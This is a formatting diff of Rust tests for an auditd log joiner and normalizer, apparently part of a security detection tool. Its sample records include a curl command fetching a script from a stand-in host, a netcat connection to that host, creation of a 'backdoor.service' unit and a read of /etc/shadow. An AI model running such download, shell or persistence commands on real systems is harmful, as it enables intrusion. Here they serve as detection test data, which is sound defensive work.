@@ -61,21 +61,37 @@ fn execve_records_join_into_one_process_launch() {
     assert_eq!(evs.len(), 1);
     let e = &evs[0];
     assert_eq!(e.format, SourceFormat::Auditd);
-    assert_eq!((e.logsource.product, e.logsource.service), (Some("linux"), Some("auditd")));
+    assert_eq!(
+        (e.logsource.product, e.logsource.service),
+        (Some("linux"), Some("auditd"))
+    );
     assert_eq!(e.time, Some(datetime!(2024-03-09 08:00:00.123 UTC)));
     assert_eq!((e.app.as_deref(), e.pid), (Some("curl"), Some(20201)));
-    assert_eq!(e.field("record_types"), Some("SYSCALL EXECVE CWD PATH PATH PROCTITLE"));
+    assert_eq!(
+        e.field("record_types"),
+        Some("SYSCALL EXECVE CWD PATH PATH PROCTITLE")
+    );
     // Unqualified names: what rules without a record-type test read.
     assert_eq!(e.field("type"), Some("SYSCALL"));
     assert_eq!(e.field("SYSCALL"), Some("execve"));
     assert_eq!(e.field("exe"), Some("/usr/bin/curl"));
     assert_eq!(e.field("key"), Some("susp_activity"));
-    assert_eq!(e.field("a0"), Some("curl"), "EXECVE's argv wins over SYSCALL's registers");
+    assert_eq!(
+        e.field("a0"),
+        Some("curl"),
+        "EXECVE's argv wins over SYSCALL's registers"
+    );
     assert_eq!(e.field("a3"), Some("/tmp/my file"));
     assert_eq!(e.field("name"), Some("/usr/bin/curl"));
     assert_eq!(e.field("cwd"), Some("/home/alice"));
-    assert_eq!(e.field("proctitle"), Some("curl -s -o /tmp/my file http://198.51.100.23/x.sh"));
-    assert_eq!(e.field("CommandLine"), Some("curl -s -o /tmp/my file http://198.51.100.23/x.sh"));
+    assert_eq!(
+        e.field("proctitle"),
+        Some("curl -s -o /tmp/my file http://198.51.100.23/x.sh")
+    );
+    assert_eq!(
+        e.field("CommandLine"),
+        Some("curl -s -o /tmp/my file http://198.51.100.23/x.sh")
+    );
     // Qualified names keep every record.
     assert_eq!(e.field("SYSCALL.a0"), Some("55d0c1a2b3c0"));
     assert_eq!(e.field("EXECVE.a0"), Some("curl"));
@@ -84,17 +100,26 @@ fn execve_records_join_into_one_process_launch() {
     // Record views: a `type: EXECVE` selection sees EXECVE's fields only.
     let views = record_views(e);
     let execve = views.iter().find(|v| v.record_type == "EXECVE").unwrap();
-    assert_eq!((execve.field("type"), execve.field("a1")), (Some("EXECVE"), Some("-s")));
+    assert_eq!(
+        (execve.field("type"), execve.field("a1")),
+        (Some("EXECVE"), Some("-s"))
+    );
     let syscall = views.iter().find(|v| v.record_type == "SYSCALL").unwrap();
     assert_eq!(syscall.field("a1"), Some("55d0c1a2b400"));
     assert_eq!(views.iter().filter(|v| v.record_type == "PATH").count(), 2);
     let o = e.ocsf.as_ref().unwrap();
-    assert_eq!((o.class, o.activity_id, o.status), (OcsfClass::ProcessActivity, 1, Some(Status::Success)));
+    assert_eq!(
+        (o.class, o.activity_id, o.status),
+        (OcsfClass::ProcessActivity, 1, Some(Status::Success))
+    );
     let p = o.process.as_ref().unwrap();
     assert_eq!(p.path.as_deref(), Some("/usr/bin/curl"));
     assert_eq!(p.cwd.as_deref(), Some("/home/alice"));
     assert_eq!(p.user.as_deref(), Some("alice"));
-    assert_eq!(o.actor.as_ref().unwrap().user.name.as_deref(), Some("alice"));
+    assert_eq!(
+        o.actor.as_ref().unwrap().user.name.as_deref(),
+        Some("alice")
+    );
     assert_eq!(e.raw.lines().count(), 6, "EOE is not kept");
 }
 
@@ -104,12 +129,21 @@ fn raw_connect_gets_syscall_name_and_socket_address() {
     assert_eq!(e.field("SYSCALL"), Some("connect"), "from the x86_64 table");
     let syscall = &record_views(e)[0];
     assert_eq!(syscall.field("SYSCALL"), Some("connect"));
-    assert_eq!((e.field("laddr"), e.field("lport")), (Some("198.51.100.23"), Some("4001")));
+    assert_eq!(
+        (e.field("laddr"), e.field("lport")),
+        (Some("198.51.100.23"), Some("4001"))
+    );
     assert_eq!(e.field("proctitle"), Some("nc -w 3 198.51.100.23 4001"));
     let o = e.ocsf.as_ref().unwrap();
-    assert_eq!((o.class, o.status), (OcsfClass::NetworkActivity, Some(Status::Failure)));
+    assert_eq!(
+        (o.class, o.status),
+        (OcsfClass::NetworkActivity, Some(Status::Failure))
+    );
     let dst = o.dst_endpoint.as_ref().unwrap();
-    assert_eq!((dst.ip.as_deref(), dst.port), (Some("198.51.100.23"), Some(4001)));
+    assert_eq!(
+        (dst.ip.as_deref(), dst.port),
+        (Some("198.51.100.23"), Some(4001))
+    );
 }
 
 #[test]
@@ -119,13 +153,22 @@ fn syslog_carried_records_join_and_pick_the_created_path() {
     let e = &evs[0];
     assert_eq!(e.host.as_deref(), Some("web01"));
     assert_eq!(e.field("SYSCALL"), Some("openat"));
-    assert_eq!((e.field("name"), e.field("nametype")), (Some("/etc/systemd/system/backdoor.service"), Some("CREATE")));
+    assert_eq!(
+        (e.field("name"), e.field("nametype")),
+        (Some("/etc/systemd/system/backdoor.service"), Some("CREATE"))
+    );
     let created = record_views(e)
         .into_iter()
         .find(|v| v.record_type == "PATH" && v.field("nametype") == Some("CREATE"))
         .unwrap();
-    assert_eq!(created.field("name"), Some("/etc/systemd/system/backdoor.service"));
-    assert!(e.raw.starts_with("Mar  9 10:20:00 web01 audispd: node=web01 type=SYSCALL"));
+    assert_eq!(
+        created.field("name"),
+        Some("/etc/systemd/system/backdoor.service")
+    );
+    assert!(
+        e.raw
+            .starts_with("Mar  9 10:20:00 web01 audispd: node=web01 type=SYSCALL")
+    );
     assert!(e.ocsf.is_none(), "a file write has no class here");
 }
 
@@ -134,17 +177,32 @@ fn userspace_records_are_events_on_their_own() {
     let evs = joined(USER_RECORDS);
     assert_eq!(evs.len(), 4);
     let auth = &evs[0];
-    assert_eq!((auth.field("type"), auth.field("acct"), auth.field("res")), (Some("USER_AUTH"), Some("root"), Some("failed")));
+    assert_eq!(
+        (auth.field("type"), auth.field("acct"), auth.field("res")),
+        (Some("USER_AUTH"), Some("root"), Some("failed"))
+    );
     let o = auth.ocsf.as_ref().unwrap();
-    assert_eq!((o.class, o.activity_id, o.status), (OcsfClass::Authentication, 1, Some(Status::Failure)));
+    assert_eq!(
+        (o.class, o.activity_id, o.status),
+        (OcsfClass::Authentication, 1, Some(Status::Failure))
+    );
     assert_eq!(o.user.as_ref().unwrap().name.as_deref(), Some("root"));
     assert_eq!(o.status_detail.as_deref(), Some("PAM:authentication"));
     let login = evs[1].ocsf.as_ref().unwrap();
-    assert_eq!(login.src_endpoint.as_ref().unwrap().ip.as_deref(), Some("203.0.113.9"));
+    assert_eq!(
+        login.src_endpoint.as_ref().unwrap().ip.as_deref(),
+        Some("203.0.113.9")
+    );
     let add = evs[2].ocsf.as_ref().unwrap();
     assert_eq!((add.class, add.activity_id), (OcsfClass::AccountChange, 1));
-    assert_eq!(add.user.as_ref().unwrap().name.as_deref(), Some("svc-backup"));
-    assert_eq!((evs[3].field("type"), evs[3].field("unit")), (Some("SERVICE_STOP"), Some("ufw")));
+    assert_eq!(
+        add.user.as_ref().unwrap().name.as_deref(),
+        Some("svc-backup")
+    );
+    assert_eq!(
+        (evs[3].field("type"), evs[3].field("unit")),
+        (Some("SERVICE_STOP"), Some("ufw"))
+    );
 }
 
 #[test]
@@ -172,18 +230,37 @@ fn interleaved_events_and_missing_eoe() {
     }
     let evs = joined(&mixed);
     assert_eq!(evs.len(), 2);
-    assert!(evs.iter().any(|e| e.field("record_types") == Some("SYSCALL EXECVE CWD PATH PATH PROCTITLE")));
-    assert!(evs.iter().any(|e| e.field("record_types") == Some("SYSCALL SOCKADDR PROCTITLE")));
+    assert!(
+        evs.iter()
+            .any(|e| e.field("record_types") == Some("SYSCALL EXECVE CWD PATH PATH PROCTITLE"))
+    );
+    assert!(
+        evs.iter()
+            .any(|e| e.field("record_types") == Some("SYSCALL SOCKADDR PROCTITLE"))
+    );
 
     // Without EOE: a record stamped after the grace window closes the event.
     let n = n();
-    let mut j = AuditJoiner::new(JoinConfig { grace_ms: 1000, ..JoinConfig::default() });
+    let mut j = AuditJoiner::new(JoinConfig {
+        grace_ms: 1000,
+        ..JoinConfig::default()
+    });
     let mut out = Vec::new();
     n.line_joining(b"type=CONFIG_CHANGE msg=audit(1709971000.000:1): auid=1001 ses=12 op=remove_rule key=\"susp_activity\" list=4 res=1", &mut j, &mut out).unwrap();
-    n.line_joining(b"type=SYSCALL msg=audit(1709971000.900:2): arch=c000003e syscall=59 success=yes", &mut j, &mut out).unwrap();
+    n.line_joining(
+        b"type=SYSCALL msg=audit(1709971000.900:2): arch=c000003e syscall=59 success=yes",
+        &mut j,
+        &mut out,
+    )
+    .unwrap();
     assert!(out.is_empty());
     assert_eq!(j.pending(), 2);
-    n.line_joining(b"type=SYSCALL msg=audit(1709971001.500:3): arch=c000003e syscall=59 success=yes", &mut j, &mut out).unwrap();
+    n.line_joining(
+        b"type=SYSCALL msg=audit(1709971001.500:3): arch=c000003e syscall=59 success=yes",
+        &mut j,
+        &mut out,
+    )
+    .unwrap();
     assert_eq!(out.len(), 1);
     assert_eq!(out[0].field("type"), Some("CONFIG_CHANGE"));
     j.finish(&mut out);
@@ -194,7 +271,11 @@ fn interleaved_events_and_missing_eoe() {
 #[test]
 fn buffer_is_bounded() {
     let n = n();
-    let mut j = AuditJoiner::new(JoinConfig { grace_ms: u32::MAX, max_pending: 4, max_records: 3 });
+    let mut j = AuditJoiner::new(JoinConfig {
+        grace_ms: u32::MAX,
+        max_pending: 4,
+        max_records: 3,
+    });
     let mut out = Vec::new();
     for serial in 0..10 {
         let line = format!("type=SYSCALL msg=audit(1709971000.000:{serial}): syscall=2");
@@ -203,7 +284,12 @@ fn buffer_is_bounded() {
     }
     assert_eq!(out.len(), 6);
     for _ in 0..5 {
-        n.line_joining(b"type=PATH msg=audit(1709971000.000:9): item=0 name=\"/x\"", &mut j, &mut out).unwrap();
+        n.line_joining(
+            b"type=PATH msg=audit(1709971000.000:9): item=0 name=\"/x\"",
+            &mut j,
+            &mut out,
+        )
+        .unwrap();
     }
     j.finish(&mut out);
     let last = out.iter().find(|e| e.field("serial") == Some("9")).unwrap();
@@ -216,7 +302,10 @@ fn stateless_line_gives_one_event_per_record_and_kernel_lines_work() {
     let k = b"Mar  9 10:30:00 web01 kernel: [ 3512.123456] audit: type=1400 audit(1709980200.111:9100): apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/tcpdump\" name=\"/etc/shadow\" pid=5001 comm=\"tcpdump\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0";
     assert_eq!(n().line(k, &mut out).unwrap(), 1);
     let e = &out[0];
-    assert_eq!((e.field("type"), e.field("apparmor"), e.field("name")), (Some("AVC"), Some("DENIED"), Some("/etc/shadow")));
+    assert_eq!(
+        (e.field("type"), e.field("apparmor"), e.field("name")),
+        (Some("AVC"), Some("DENIED"), Some("/etc/shadow"))
+    );
     assert_eq!(e.host.as_deref(), Some("web01"));
     // A malformed record carried in syslog reports the offset in the whole line.
     let bad = b"Mar  9 10:30:00 web01 audispd: type=SYSCALL msg=audit(17:1): x=1";
@@ -224,14 +313,24 @@ fn stateless_line_gives_one_event_per_record_and_kernel_lines_work() {
     assert_eq!(err.offset, bad.iter().position(|&b| b == b'(').unwrap() + 1);
     // Not audit: ordinary kernel lines stay syslog.
     out.clear();
-    n().line(b"Mar  9 10:30:00 web01 kernel: [ 1.0] usb 1-1: new device", &mut out).unwrap();
+    n().line(
+        b"Mar  9 10:30:00 web01 kernel: [ 1.0] usb 1-1: new device",
+        &mut out,
+    )
+    .unwrap();
     assert_eq!(out[0].logsource.service, Some("syslog"));
 }
 
 #[test]
 fn snapshot_joined_audit_events() {
     let mut all = String::new();
-    for s in [ENRICHED_EXECVE, RAW_CONNECT, SYSLOG_SERVICE_FILE, USER_RECORDS, LONG_ARGUMENT] {
+    for s in [
+        ENRICHED_EXECVE,
+        RAW_CONNECT,
+        SYSLOG_SERVICE_FILE,
+        USER_RECORDS,
+        LONG_ARGUMENT,
+    ] {
         all.push_str(s);
     }
     let evs = joined(&all);
